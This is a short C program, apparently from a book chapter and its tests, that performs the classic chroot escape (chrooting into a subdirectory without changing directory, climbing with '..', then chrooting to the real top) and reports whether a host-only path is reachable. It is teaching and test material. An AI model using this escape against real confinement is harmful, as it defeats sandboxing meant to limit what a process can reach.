/* The classic chroot escape, for chapter 3's tests and book.
 *
 * usage: chroot-escape PATH
 * Tries to break out of the current root, then checks whether PATH (a path
 * that exists only on the host) is reachable. Prints "escaped: ..." and
 * exits 0, or prints "contained: ..." and exits 1.
 *
 * Build: gcc -static -O2 -o chroot-escape chroot_escape.c
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

// ANCHOR: escape
int main(int argc, char **argv) {
    const char *probe = argc > 1 ? argv[1] : "/etc/host-only";
    /* 1. chroot into a subdirectory WITHOUT changing directory: our
     *    working directory is now outside our own root. */
    mkdir("escape.d", 0755);
    if (chroot("escape.d") != 0) { perror("chroot escape.d"); return 2; }
    /* 2. ".." is only stopped at the root, and we are not under it:
     *    climb until ".." of "/" is "/" itself — the real top. */
    for (int i = 0; i < 256; i++) chdir("..");
    /* 3. make that real top our root. */
    if (chroot(".") != 0) { perror("chroot ."); return 2; }
    if (access(probe, F_OK) == 0) {
        printf("escaped: %s is reachable\n", probe);
        return 0;
    }
    printf("contained: %s is not reachable\n", probe);
    return 1;
}
// ANCHOR_END: escape
